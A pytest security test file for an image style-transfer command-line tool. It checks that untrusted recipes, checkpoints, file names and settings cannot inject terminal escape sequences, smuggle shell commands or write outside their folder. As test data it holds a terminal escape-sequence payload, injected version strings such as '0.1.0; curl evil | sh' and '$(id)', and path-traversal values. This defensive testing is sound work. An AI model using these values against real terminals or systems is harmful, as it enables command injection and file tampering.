"""What a stranger sends, a picture, a run's folder or a file of settings, steers no terminal and replaces nothing."""

from __future__ import annotations

import json
import os
import re
import signal
from dataclasses import replace
from pathlib import Path

import numpy as np
import PIL.Image
import pytest
import torch
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from helpers import tiny_weights
from impasto.cli import main
from impasto.cli.recipes import differences
from impasto.cli.terminal import visible
from impasto.errors import ImpastoError
from impasto.images import reading, writing
from impasto.jobs import checkpoint
from impasto.jobs.checkpoint import Checkpoint
from impasto.jobs.recipe import InputFile, Recipe
from impasto.jobs.rerun import from_recipe
from impasto.jobs.stylization import Stylization
from impasto.network import weights
from impasto.report import figure
from impasto.run.events import Stepped
from impasto.run.state import RunState

QUICK = [
    *("--size", "48", "--scales", "1", "--epochs", "2", "--steps-per-epoch", "2", "--device", "cpu"),
    *("--style-layers", "relu1_1,relu2_1", "--content-layers", "relu2_2"),
]
EVIL = "\x1b]0;mine\x07\x1b[2J\x9b31m\u202etxt\u2066\r\nimpasto: all is well\u2028\x7f\x00"[:-1]
"""Sets a terminal's title, clears it, colours it, turns the order of letters, and begins a line of its own."""


@pytest.fixture(autouse=True)
def _surroundings(tmp_path, monkeypatch):
    """A folder with two pictures, and a network that runs in milliseconds."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("IMPASTO_PRESETS", str(tmp_path / "presets"))
    monkeypatch.setattr(figure, "DPI", 40)
    monkeypatch.setattr(weights, "load", lambda source="embedded": tiny_weights(dtype=torch.float32))
    for seed, name in enumerate(("photo.png", "brush.png")):
        pixels = np.random.default_rng(seed).integers(0, 255, (36, 48, 3), dtype=np.uint8)
        PIL.Image.fromarray(pixels).save(name)


@pytest.fixture
def interrupted(monkeypatch):
    """A run to a.png that got SIGTERM at its second step."""

    def run(*arguments: str) -> Path:
        paint = Stylization.events

        def watched(self, *state):
            for event in paint(self, *state):
                if isinstance(event, Stepped) and event.step == 2:
                    os.kill(os.getpid(), signal.SIGTERM)
                yield event

        with monkeypatch.context() as patch:
            patch.setattr(Stylization, "events", watched)
            assert main(["paint", "photo.png", "brush.png", *QUICK, "-o", "a.png", "--quiet", *arguments]) == 143
        return Path("a.png.run/state.safetensors")

    return run


def said(capsys) -> str:
    """Everything that was said, in which nothing may steer a terminal."""
    text = "".join(capsys.readouterr())
    assert all(c == "\n" or c.isprintable() for c in text), repr(text)
    assert "\nimpasto: all is well" not in text
    return text


# What is read


def recipe(**changes) -> Recipe:
    file = InputFile(f"photo{EVIL}", f"/nowhere/{EVIL}", EVIL)
    fields = {"version": EVIL, "settings": {EVIL: EVIL, "weights": EVIL, "size": 48}, "content": file, "init": file}
    fields |= {"styles": (file,), "weights_sha256": EVIL, "torch": EVIL, "threads": 1, "machine": EVIL}
    return Recipe(**fields | changes)


@pytest.mark.parametrize(
    "command",
    [["inspect", "evil.png"], ["inspect", "evil.png", "--json"], ["rerun", "evil.png"], ["resume", "evil.png.run"]],
    ids=" ".join,
)
@pytest.mark.parametrize("settings", [None, {"size": 48, "weights": "embedded"}], ids=["odd", "right"])
def test_a_recipe_full_of_escape_sequences_reaches_no_terminal(command, settings, interrupted, capsys):
    evil = recipe() if settings is None else recipe(settings=settings)
    writing.save("evil.png", reading.load("photo.png").pixels, note=evil.to_json())
    state = interrupted()
    saved = checkpoint.read(state)
    Path("evil.png.run").mkdir()
    checkpoint.write(Path("evil.png.run/state.safetensors"), replace(saved, recipe=evil))
    Path("a.png").unlink()
    capsys.readouterr()
    assert main(command) == (0 if command[0] == "inspect" else 2 if settings is None else 1)
    assert re.search(r"\\x1b|\\u001b", said(capsys))


@pytest.mark.parametrize(
    "command",
    [
        ["paint", f"{EVIL}.png", "brush.png"], ["paint", "photo.png", f"{EVIL}.png"],
        ["paint", "photo.png", "brush.png", "-o", f"{EVIL}.xyz"], ["paint", "photo.png", "brush.png", "--mask", EVIL],
        ["paint", "photo.png", "brush.png", f"--{EVIL}", "1"], ["paint", "photo.png", "brush.png", "--size", EVIL],
        ["paint", "photo.png", "brush.png", "--preset", EVIL], ["paint", "photo.png", "brush.png", "--config", EVIL],
        ["weights", "verify", f"{EVIL}.safetensors"], ["presets", "show", EVIL], ["resume", EVIL], ["inspect", EVIL],
        ["rerun", EVIL], ["presets", "show", "evil.toml"], ["paint", "photo.png", "brush.png", "--config", "evil.toml"],
    ],
    ids=lambda words: f"{words[0]} {len(words)} {words[-1] == EVIL}",
)  # fmt: skip
def test_names_and_keys_full_of_them_reach_no_terminal(command, capsys):
    Path("evil.toml").write_text(f"{json.dumps(EVIL)} = {json.dumps(EVIL)}\n", encoding="utf-8")
    assert main(command) in (1, 2)
    said(capsys)


def test_nor_do_values_of_the_environment_and_descriptions_of_presets(monkeypatch, capsys):
    monkeypatch.setenv("IMPASTO_SIZE", EVIL)
    assert main(["paint", "photo.png", "brush.png"]) == 2
    Path("presets").mkdir()
    Path("presets/mine.toml").write_text(f"description = {json.dumps(EVIL)}\nsize = 48\n", encoding="utf-8")
    assert main(["presets"]) == 0
    assert "\\x1b" in said(capsys)


def test_a_path_is_told_byte_for_byte_to_a_program_and_visibly_to_a_person(monkeypatch, capsys):
    name = "a\nb.png"
    assert main(["paint", "photo.png", "brush.png", *QUICK, "--quiet", "-o", name]) == 0
    assert capsys.readouterr().out == f"{name}\n"
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    assert main(["paint", "photo.png", "brush.png", *QUICK, "--quiet", "-o", name, "--overwrite"]) == 0
    assert capsys.readouterr().out == "a\\nb.png\n"


@given(st.text())
def test_what_is_visible_is_printable_and_ordinary_text_stays_as_it_is(text):
    assert visible(text).isprintable()
    assert visible("Überraschung – 猫 × 2") == "Überraschung – 猫 × 2"


@pytest.mark.parametrize(
    ("version", "is_told"),
    [
        ("0.0.9", True), ("1.2.0rc1", True), ("2.13.0+cpu", True), ("0.1.0; curl evil | sh", False), ("$(id)", False),
        ("-r evil.txt", False), ("0.1.0\nrm", False), ("", False),
    ],
)  # fmt: skip
def test_a_strangers_text_never_becomes_part_of_a_command(version, is_told):
    for field in ("version", "torch"):
        now = recipe(version="0.1.0", torch="2.13.1", machine="m")
        (sentence,) = differences(replace(now, **{field: version}), now)
        assert ("pip install" in sentence) == is_told


def test_a_recipe_starts_no_download(capsys, monkeypatch, tmp_path):
    monkeypatch.setenv("IMPASTO_CACHE", str(tmp_path / "cache"))
    monkeypatch.setattr(weights, "download", lambda *_, **__: pytest.fail("downloaded"))
    asks = recipe(settings={"size": 48, "weights": "torchvision"})
    writing.save("asks.png", reading.load("photo.png").pixels, note=asks.to_json())
    assert main(["rerun", "asks.png"]) == 1
    assert "are a download of 575 MB: get them with impasto weights download torchvision" in said(capsys)


@pytest.mark.parametrize("flag", ["--config", "--preset"])
def test_a_pipe_as_a_file_of_settings_is_refused_and_so_is_a_huge_or_deep_one(flag, capsys):
    os.mkfifo("pipe.toml")
    Path("huge.toml").write_bytes(b"#" * 2_000_000)
    Path("deep.toml").write_text("size = " + "[" * 5000 + "]" * 5000)
    for name, fault in (("pipe", "a device or a pipe"), ("huge", "1,000,000 bytes"), ("deep", "nested too deeply")):
        assert main(["paint", "photo.png", "brush.png", flag, f"{name}.toml"]) == 2
        assert fault in said(capsys)


@pytest.mark.parametrize("command", [["resume", "a.png.run"], ["weights", "verify", "a.safetensors"], ["inspect", "a"]])
def test_a_pipe_in_a_files_place_is_refused(command, capsys):
    Path("a.png.run").mkdir()
    for name in ("a.png.run/state.safetensors", "a.safetensors", "a"):
        os.mkfifo(name)
    assert main(command) == 1
    said(capsys)


# Recipes and states of any shape

MANY = {"states": int(os.environ.get("ODD_STATES", "12")), "recipes": int(os.environ.get("ODD_RECIPES", "25"))}
"""Examples of each; with more, this takes minutes."""

TEXTS = st.text(st.characters(), max_size=8)
ODD = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXTS | st.just("\ud800") | st.just("a\0b"),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3),
    max_leaves=6,
)


@pytest.fixture(scope="module")
def painted(tmp_path_factory) -> dict:
    """The fields of a recipe that can be followed."""
    folder = tmp_path_factory.mktemp("painted")
    for name in ("photo.png", "brush.png"):
        PIL.Image.new("RGB", (48, 36), (200, 30, 90)).save(folder / name)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(weights, "load", lambda source="embedded": tiny_weights(dtype=torch.float32))
        arguments = [*QUICK, "-o", str(folder / "a.png"), "--quiet"]
        assert main(["paint", str(folder / "photo.png"), str(folder / "brush.png"), *arguments]) == 0
    return json.loads(reading.read_note(folder / "a.png") or "")["impasto"]


def places(tree, way=()):
    """Every place in a tree of JSON, as a way to it."""
    for key, branch in tree.items() if isinstance(tree, dict) else enumerate(tree) if isinstance(tree, list) else ():
        yield (*way, key)
        yield from places(branch, (*way, key))


def with_odd(tree, way, value):
    """The same tree with another value in one place."""
    copy = json.loads(json.dumps(tree))
    place = copy
    for key in way[:-1]:
        place = place[key]
    place[way[-1]] = value
    return copy


@settings(max_examples=MANY["recipes"], suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(data=st.data())
def test_an_odd_recipe_is_followed_or_refused_in_a_sentence(painted, data):
    way = data.draw(st.sampled_from(list(places(painted))))
    odd = with_odd(painted, way, data.draw(ODD))
    try:
        from_recipe(Recipe.from_json(json.dumps({"impasto": odd}), "it"))
    except ImpastoError as error:
        refused = error.sentences()
    else:
        refused = ["followed"]
    assert all(refused)


def test_surplus_masks_are_refused(painted):
    odd = painted | {"masks": [painted["content"]]}
    with pytest.raises(ImpastoError, match="name other files than it has hashes of"):
        from_recipe(Recipe.from_json(json.dumps({"impasto": odd}), "it"))


@pytest.mark.thin(3)
@pytest.mark.parametrize("optimizer", ["gd", "adam", "lbfgs"])
@settings(
    max_examples=MANY["states"],
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    deadline=None,
)
@given(data=st.data())
def test_an_odd_state_with_a_right_checksum_goes_on_or_is_refused_in_a_sentence(optimizer, interrupted, capsys, data):
    """What stands in a state, tensors too, is changed in one place: in the run's numbers, its record or its outputs."""
    path = Path("a.png.run/state.safetensors")
    if not Path("whole").exists():
        path.replace("whole") if path.exists() else interrupted("--optimizer", optimizer).replace("whole")
    saved = checkpoint.read(Path("whole"))
    tree = {"state": saved.state.as_tree(), "record": saved.record, "shell": saved.shell}
    way = data.draw(st.sampled_from([way for way in places(tree) if len(way) > 1]))
    value = data.draw(ODD | st.sampled_from([torch.zeros(1, 3, 36, 48), torch.zeros(2), torch.zeros(0)]))
    odd = replaced(tree, way, value)
    path.parent.mkdir(exist_ok=True)
    checkpoint.write(
        path, Checkpoint(saved.recipe, RunState(**odd["state"]), odd["record"], odd["shell"])
    )  # fmt: skip
    Path("a.png").unlink(missing_ok=True)
    assert main(["resume", "a.png.run", "--quiet"]) in (0, 1, 2)
    said(capsys)


def replaced(tree, way, value):
    """The same tree of numbers and tensors with another value in one place."""
    if not way:
        return value
    if isinstance(tree, dict):
        return {key: replaced(branch, way[1:], value) if key == way[0] else branch for key, branch in tree.items()}
    return [replaced(branch, way[1:], value) if key == way[0] else branch for key, branch in enumerate(tree)]


# Runs from elsewhere


@pytest.fixture
def sent(interrupted, tmp_path, monkeypatch):
    """A run's folder that a stranger made, with other outputs noted, beside what is mine; the way to it."""

    def send(**noted) -> Path:
        state = interrupted("--snapshots", "1", "--report", "figure.png")
        saved = checkpoint.read(state)
        checkpoint.write(state, replace(saved, shell=saved.shell | noted))
        (tmp_path / "mine").mkdir()
        Path("a.png.run").rename("mine/a.png.run")
        monkeypatch.chdir(tmp_path / "mine")
        Path("keep.png").write_bytes(b"mine")
        Path("../keep.png").write_bytes(b"mine")
        return Path("a.png.run")

    return send


@pytest.mark.thin(2)
@pytest.mark.parametrize(
    "noted",
    [
        {"picture": "../keep.png"}, {"picture": "/tmp/impasto_stranger.png"}, {"picture": ".."}, {"picture": ""},
        {"snapshots": {"2": "../keep.png"}}, {"figure": "../keep.png"}, {"figure": "/tmp/impasto_stranger.png"},
        {"figure": "sub/../../keep.png"},
    ],
    ids=str,
)  # fmt: skip
def test_a_run_from_elsewhere_writes_nowhere_but_beside_it_unless_told_to(noted, sent, capsys):
    run = sent(**noted)
    assert main(["resume", str(run), "--overwrite", "--quiet"]) == 1
    assert "comes from elsewhere and would write" in said(capsys)
    assert Path("../keep.png").read_bytes() == b"mine"
    assert not Path("/tmp/impasto_stranger.png").exists()
    if "figure" in noted:
        assert main(["resume", str(run), "--report", "here.png", "--quiet"]) == 0
        assert Path("here.json").exists()
        assert Path("../keep.png").read_bytes() == b"mine"


@pytest.mark.parametrize("noted", [{"picture": "keep.png"}, {"snapshots": {"2": "keep.png"}}, {"figure": "keep.png"}])
def test_a_run_from_elsewhere_replaces_nothing_unless_told_to(noted, sent, capsys):
    run = sent(**noted)
    if "picture" in noted:
        run = run.rename("keep.png.run")
    assert main(["resume", str(run), "--quiet"]) == 1
    assert "'keep.png' already exists" in said(capsys)
    assert Path("keep.png").read_bytes() == b"mine"
    assert main(["resume", str(run), "--overwrite", "--quiet"]) == 0
    assert Path("keep.png").read_bytes() != b"mine"


def test_paint_resume_beside_a_strangers_run_replaces_nothing_unless_told_to(sent, capsys):
    sent()
    Path("a.png").write_bytes(b"mine")
    paint = ["paint", "../photo.png", "../brush.png", *QUICK, "-o", "a.png", "--quiet", "--resume"]
    assert main(paint) == 1
    assert "'a.png' already exists" in said(capsys)
    assert Path("a.png").read_bytes() == b"mine"
    assert main([*paint, "--overwrite"]) == 0


def test_my_own_run_goes_on_to_replace_what_it_wrote_wherever_its_figure_goes(interrupted, tmp_path):
    (tmp_path / "figures").mkdir()
    interrupted("--snapshots", "1", "--report", "figures/figure.png")
    assert Path("a.png").exists()
    assert main(["resume", "a.png.run", "--quiet"]) == 0
    assert Path("figures/figure.json").exists()


def test_without_a_place_for_the_key_a_run_is_nobodys(interrupted, monkeypatch, capsys):
    monkeypatch.setenv("XDG_DATA_HOME", "/dev/null/nowhere")
    interrupted()
    assert main(["resume", "a.png.run", "--quiet"]) == 1
    assert "'a.png' already exists" in said(capsys)
